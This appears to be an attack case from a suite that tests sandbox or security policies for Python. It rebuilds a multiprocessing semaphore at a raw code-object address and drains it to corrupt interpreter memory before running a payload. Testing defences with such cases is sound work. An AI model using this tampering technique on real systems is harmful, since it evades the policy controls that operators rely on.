"""A semaphore at an address counts in the interpreter's own memory."""
CATEGORY = "tampering"
REACH = "net"
MEMORY = True
POLICIES = ("baseline", "deny")

import _multiprocessing

from . import payload

# Behind the fields of a code object that Python shows, whose code it is.
OFFSET = 188


def attack():
    for function in attack, payload.act:
        where = id(function.__code__) + OFFSET
        number = _multiprocessing.SemLock._rebuild(where, 1, 1 << 30, None)
        while number.acquire(False):
            pass
    payload.act()
